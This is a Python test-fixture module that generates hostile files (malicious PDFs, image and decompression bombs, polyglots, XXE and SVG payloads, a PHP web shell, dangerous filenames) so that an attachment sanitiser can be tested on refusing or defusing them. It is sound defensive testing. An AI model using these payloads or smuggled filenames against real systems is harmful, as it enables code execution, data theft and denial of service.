"""Hostile files, made by code: each is refused or made harmless. None is stored in the repository."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from PIL import Image

from tests.attachments.made import (
    Array,
    Dictionary,
    Name,
    new_pdf,
    packed,
    pdf,
    pdf_with_annotation,
    pdf_with_page,
    pdf_with_root,
    picture,
    png_chunk,
    png_that_says,
    raw_pdf,
    saved,
    stream,
)

Make = Callable[[], bytes]
SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>'
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def script(words: str = "app.alert('hello')") -> pikepdf.Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String(words))


def launch() -> pikepdf.Dictionary:
    return Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"), Win=Dictionary(F=pikepdf.String("cmd.exe")))


def embedded(made: pikepdf.Pdf) -> pikepdf.Object:
    """A program inside a document."""
    body = made.make_stream(b"MZ" + b"\0" * 100)
    body.Type = Name.EmbeddedFile
    file = Dictionary(Type=Name.Filespec, F=pikepdf.String("invoice.exe"), EF=Dictionary(F=body))
    return made.make_indirect(file)


def with_embedded() -> bytes:
    made = new_pdf()
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([pikepdf.String("a"), embedded(made)])))
    made.Root.AF = Array([embedded(made)])
    return saved(made)


def with_file_on_page() -> bytes:
    made = new_pdf()
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=embedded(made)
    )
    made.pages[0].obj.Annots = Array([note])
    return saved(made)


def with_form(**action: Any) -> bytes:
    made = new_pdf()
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("a"), V=pikepdf.String("typed"),
            Rect=Array([72, 600, 300, 630]), DA=pikepdf.String("/Helv 12 Tf 0 g"), **action,
        )
    )  # fmt: skip
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    return saved(made)


def with_xfa() -> bytes:
    made = new_pdf()
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp:xdp/>"))
    return saved(made)


def in_form_xobject(**entries: Any) -> bytes:
    """A document whose page draws a form that has something in it."""
    made = new_pdf()
    form = made.make_stream(b"0 0 9 9 re f")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    for key, value in entries.items():
        form[f"/{key}"] = value(made) if callable(value) else value
    made.pages[0].obj.Resources.XObject = Dictionary(X=form)
    made.pages[0].obj.Contents = made.make_stream(b"/X Do")
    return saved(made)


def locked(user: str, owner: str) -> bytes:
    return saved(new_pdf(), encryption=pikepdf.Encryption(user=user, owner=owner))


def hidden_layer() -> bytes:
    made = new_pdf()
    layer = made.make_indirect(Dictionary(Type=Name.OCG, Name=pikepdf.String("Hidden")))
    made.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
    return saved(made)


def huge_picture_in_pdf() -> bytes:
    made = new_pdf()
    image = made.make_stream(b"\0" * 10)
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 100_000, 100_000
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
    made.pages[0].obj.Resources.XObject = Dictionary(X=image)
    return saved(made)


def many_objects() -> bytes:
    made = new_pdf()
    made.Root.Heap = Array([made.make_indirect(Dictionary(N=number)) for number in range(60_000)])
    return saved(made)


def kids_loop() -> bytes:
    return raw_pdf({1: CATALOG, 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})


def deep_pages(depth: int = 5000) -> bytes:
    objects = {1: CATALOG}
    for number in range(2, depth):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    objects[depth] = b"<< /Type /Page /MediaBox [0 0 9 9] >>"
    return raw_pdf(objects)


def xref_loop() -> bytes:
    """Two tables of objects, each of which calls the other the earlier one."""
    body = raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(b"")})
    place = body.rindex(b"startxref\n") + len(b"startxref\n")
    begins = int(body[place:].split(b"\n")[0])
    return raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(b"")}, trailer=b"/Prev %d" % begins)


def wrong_count() -> bytes:
    return raw_pdf(
        {1: CATALOG, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 99999999 >>", 3: PAGE, 4: stream(b"")}
    )


def bomb(size: int, depth: int = 1) -> bytes:
    body, filters = packed(size), b"/FlateDecode"
    for _ in range(depth - 1):
        body, filters = zlib.compress(body, 9), filters + b" /FlateDecode"
    contents = stream(body, b"/Filter [%s]" % filters)
    return raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: contents})


def endless_drawing() -> bytes:
    """A page that asks for more drawing than anybody has time for."""
    return raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(b"0 0 m 500 800 l S\n" * 700_000)})


def nested_arrays() -> bytes:
    return raw_pdf(
        {1: CATALOG[:-2] + b"/X " + b"[" * 20_000 + b"]" * 20_000 + b">>", 2: PAGES, 3: PAGE, 4: stream(b"")}
    )


def drawing_loop() -> bytes:
    """A form that draws itself."""
    page = PAGE.replace(b"/Resources << >>", b"/Resources << /XObject << /X 5 0 R >> >>")
    form = stream(
        b"/X Do /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
    )
    return raw_pdf({1: CATALOG, 2: PAGES, 3: page, 4: stream(b"/X Do"), 5: form})


def box(sides: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << >> >>" % sides
    return raw_pdf({1: CATALOG, 2: PAGES, 3: page, 4: stream(b"")})


def outside_stream() -> bytes:
    body = stream(b"", b"/F (/etc/passwd) /FFilter /FlateDecode")
    return raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: body})


def zipped(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, b"\0" * 1_000_000)
    return out.getvalue()


def photograph() -> bytes:
    """A photograph that says where and with what it was taken."""
    says = Image.Exif()
    says[0x010F], says[0x0110], says[0x9286] = "SecretCamera", "SecretModel", "SecretComment"
    says.get_ifd(0x8825)[2] = (51.0, 30.0, 26.0)
    return picture("JPEG", exif=says, comment=b"SecretComment")


def texts_in_png() -> bytes:
    whole = picture("PNG")
    end = whole.index(b"IEND") - 4
    parts = png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + png_chunk(
        b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0SecretPlace"
    )
    return whole[:end] + parts + whole[end:]


def text_bomb_in_png() -> bytes:
    whole = picture("PNG")
    end = whole.index(b"IEND") - 4
    return whole[:end] + png_chunk(b"zTXt", b"Comment\0\0" + packed(300_000_000)) + whole[end:]


def moving_png() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (30, 30), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def other_picture(kind: str) -> Make:
    return lambda: picture(kind)


# Files that must be refused: a name for the test, the name it comes under, how it is made.
REFUSED: tuple[tuple[str, str, Make], ...] = (
    ("html as png", "a.png", lambda: b"<html>" + SCRIPT),
    ("html as pdf", "a.pdf", lambda: b"<!doctype html>" + SCRIPT),
    ("html as jpeg", "a.jpeg", lambda: SCRIPT),
    ("html under its own name", "a.html", lambda: b"<html>" + SCRIPT),
    ("pdf called html", "letter.pdf.html", pdf),
    ("svg", "a.svg", lambda: SVG),
    ("svg as png", "a.png", lambda: SVG),
    ("xml with an outside entity", "a.pdf", lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    ("eps", "a.eps", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file"),
    ("eps as pdf", "a.pdf", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    ("eps as jpeg", "a.jpg", lambda: b"%!PS-Adobe-3.0\n"),
    ("zip", "a.zip", lambda: zipped("a.pdf")),
    ("zip as pdf", "a.pdf", lambda: zipped("a.pdf")),
    ("zip bomb as png", "a.png", lambda: zipped(*map(str, range(100)))),
    ("zip with a way out", "a.pdf", lambda: zipped("../../../etc/cron.d/x")),
    ("office document", "a.docx", lambda: zipped("word/document.xml")),
    ("program", "a.exe", lambda: b"MZ" + b"\0" * 200),
    ("program as pdf", "a.pdf", lambda: b"MZ" + b"\0" * 200),
    ("test virus as pdf", "a.pdf", lambda: EICAR),
    ("gif as png", "a.png", other_picture("GIF")),
    ("tiff as jpeg", "a.jpg", other_picture("TIFF")),
    ("bmp", "a.bmp", other_picture("BMP")),
    ("webp as png", "a.png", other_picture("WEBP")),
    ("png as jpeg", "a.jpg", other_picture("PNG")),
    ("jpeg as png", "a.png", other_picture("JPEG")),
    ("pdf as png", "a.png", pdf),
    ("junk before the pdf", "a.pdf", lambda: b"GIF89a" + pdf()),
    ("no name to speak of", ".", pdf),
    ("no ending", "letter", pdf),
    ("empty pdf", "a.pdf", lambda: b""),
    ("empty png", "a.png", lambda: b""),
    ("only a pdf's first line", "a.pdf", lambda: b"%PDF-1.7\n"),
    ("only a png's first bytes", "a.png", lambda: b"\x89PNG\r\n\x1a\n"),
    ("only a jpeg's first bytes", "a.jpg", lambda: b"\xff\xd8\xff"),
    ("truncated pdf", "a.pdf", lambda: pdf(5)[:-200]),
    ("half a pdf", "a.pdf", lambda: pdf(5)[: len(pdf(5)) // 2]),
    ("truncated png", "a.png", lambda: picture("PNG", (300, 300), colour=(9, 99, 199))[:-30]),
    ("truncated jpeg", "a.jpg", lambda: picture("JPEG", (300, 300))[:-300]),
    ("noise after a pdf's first line", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400),
    ("png of 13,000 by 13,000", "a.png", lambda: png_that_says(13_000, 13_000)),
    ("png of 2 billion by 1", "a.png", lambda: png_that_says(2**31 - 1, 1)),
    ("png of 30,000 by 30,000, packed", "a.png", lambda: png_that_says(30_000, 30_000, packed(700_000_000))),
    ("png without a size", "a.png", lambda: png_that_says(0, 0)),
    ("jpeg that says 65,000 by 65,000", "a.jpg", lambda: jpeg_that_says(65_000, 65_000)),
    ("text bomb in a png", "a.png", text_bomb_in_png),
    ("moving png", "a.png", moving_png),
    ("pdf locked for readers", "a.pdf", lambda: locked("secret", "secret")),
    ("pdf locked for writers", "a.pdf", lambda: locked("", "secret")),
    ("pdf of 61 pages", "a.pdf", lambda: pdf(61)),
    ("pdf of 10,000 pages", "a.pdf", lambda: pdf(10_000)),
    ("pdf of 60,000 objects", "a.pdf", many_objects),
    ("pdf without pages", "a.pdf", lambda: saved(pikepdf.new())),
    ("pages that contain themselves", "a.pdf", kids_loop),
    ("xfa form", "a.pdf", with_xfa),
    ("hidden layer", "a.pdf", hidden_layer),
    ("picture of 100,000 by 100,000 in a pdf", "a.pdf", huge_picture_in_pdf),
    ("page that opens to 700 MB", "a.pdf", lambda: bomb(700_000_000)),
    ("page packed twice that opens to 700 MB", "a.pdf", lambda: bomb(700_000_000, depth=2)),
    ("page fetched from elsewhere", "a.pdf", outside_stream),
    ("form that refers to another file", "a.pdf",
     lambda: in_form_xobject(Ref=Dictionary(F=pikepdf.String("x.pdf"), Page=0))),
    ("form with an action", "a.pdf", lambda: in_form_xobject(AA=Dictionary(O=script()))),
    ("form with a hidden script", "a.pdf", lambda: in_form_xobject(X=Dictionary(Y=Array([script()])))),
    ("form with a hidden launch", "a.pdf", lambda: in_form_xobject(X=launch())),
    ("form with a hidden file", "a.pdf", lambda: in_form_xobject(X=embedded)),
    ("pdf then zip", "a.pdf", lambda: pdf() + zipped("x.exe")),
    ("tables that call each other", "a.pdf", xref_loop),
    ("pages nested 5,000 deep", "a.pdf", deep_pages),
    ("arrays nested 20,000 deep", "a.pdf", nested_arrays),
)  # fmt: skip

# Files that are taken, with nothing left of what is hostile in them.
HARMLESS: tuple[tuple[str, str, Make], ...] = (
    ("pdf then html", "a.pdf", lambda: pdf() + b"\n<html>" + SCRIPT),
    ("png then html", "a.png", lambda: picture("PNG") + SCRIPT),
    ("png then php", "a.png", lambda: picture("PNG") + b"<?php system($_GET[0]); ?>"),
    ("jpeg then zip", "a.jpg", lambda: picture("JPEG") + zipped("x.exe")),
    ("jpeg with html as comment", "a.jpg", lambda: picture("JPEG", comment=SCRIPT)),
    ("png with html and place as text", "a.png", texts_in_png),
    ("photograph with place and camera", "a.jpg", photograph),
    ("script on opening", "a.pdf", lambda: pdf_with_root(OpenAction=script())),
    ("launch on opening", "a.pdf", lambda: pdf_with_root(OpenAction=launch())),
    ("script among the names", "a.pdf", lambda: pdf_with_root(
        Names=Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("x"), script()]))))),
    ("script on closing", "a.pdf", lambda: pdf_with_root(AA=Dictionary(WC=script()))),
    ("script on a page", "a.pdf", lambda: pdf_with_page(AA=Dictionary(O=script()))),
    ("link that launches", "a.pdf", lambda: pdf_with_annotation(Subtype=Name.Link, A=launch())),
    ("link that leads away", "a.pdf", lambda: pdf_with_annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=pikepdf.String("https://evil.example/?id=1")))),
    ("link into another file", "a.pdf", lambda: pdf_with_annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=pikepdf.String("\\\\evil\\x.pdf")))),
    ("link to an embedded file", "a.pdf", lambda: pdf_with_annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C)))),
    ("film on a page", "a.pdf", lambda: pdf_with_annotation(Subtype=Name.RichMedia)),
    ("program inside", "a.pdf", with_embedded),
    ("program on a page", "a.pdf", with_file_on_page),
    ("form that sends itself", "a.pdf", lambda: with_form(
        A=Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example")))),
    ("form that fetches data", "a.pdf", lambda: with_form(
        A=Dictionary(S=Name.ImportData, F=pikepdf.String("x.fdf")))),
    ("form with a script", "a.pdf", lambda: with_form(AA=Dictionary(K=script()))),
    ("notes of the maker", "a.pdf", lambda: in_form_xobject(
        PieceInfo=Dictionary(X=Dictionary(Private=script())), Metadata=lambda made: made.make_stream(b"SecretAuthor"))),
    ("pages that are miscounted", "a.pdf", wrong_count),
    ("page 200 million wide", "a.pdf", lambda: box(b"0 0 200000000 9")),
    ("page of no size", "a.pdf", lambda: box(b"0 0 0 0")),
    ("page upside down", "a.pdf", lambda: box(b"595 842 0 0")),
    ("page with sides that are no numbers", "a.pdf", lambda: box(b"/a /b (c) null")),
    ("a name that leads out", "../../../../etc/passwd.pdf", pdf),
    ("a name that leads out on Windows", "C:\\Windows\\System32\\x.pdf", pdf),
    ("a name that turns round", "letter\u202efdp.exe.pdf", pdf),
    ("a name with nothing to see", "\u200b\u2066\ufeff.pdf", pdf),
    ("a name of 300 letters", "x" * 300 + ".pdf", pdf),
    ("a name with a NUL", "a\0.exe.pdf", pdf),
    ("a name with a new line", "a\r\nSet-Cookie: x=1.pdf", pdf),
    ("a name that is markup", "<img src=x onerror=alert(1)>.pdf", pdf),
)  # fmt: skip

# Files that only cost: what becomes of them depends on the machine.
COSTLY: tuple[tuple[str, str, Make], ...] = (
    ("drawing that draws itself", "a.pdf", drawing_loop),
    ("endless drawing", "a.pdf", endless_drawing),
)


def jpeg_that_says(width: int, height: int) -> bytes:
    """A JPEG with a size of its own choice."""
    whole = bytearray(picture("JPEG"))
    place = whole.index(b"\xff\xc0") + 5
    whole[place : place + 4] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(whole)


def active_parts(content: bytes) -> Iterator[str]:
    """Find what acts in a document, in the plain and in what is packed: by its own names, not by ours."""
    with pikepdf.open(io.BytesIO(content)) as found:
        for thing in found.objects:
            text = thing.unparse(resolved=True) if not isinstance(thing, pikepdf.Stream) else pikepdf.Dictionary(
                {key: value for key, value in thing.items() if key != "/Length"}
            ).unparse()  # fmt: skip
            for word in (
                b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/Filespec", b"/OpenAction", b"/AA",
                b"/SubmitForm", b"/ImportData", b"/GoToR", b"/GoToE", b"/URI", b"/RichMedia", b"/XFA",
                b"/AcroForm", b"/Annots", b"/PieceInfo", b"/Metadata",
            ):  # fmt: skip
                if word in text:
                    yield word.decode()
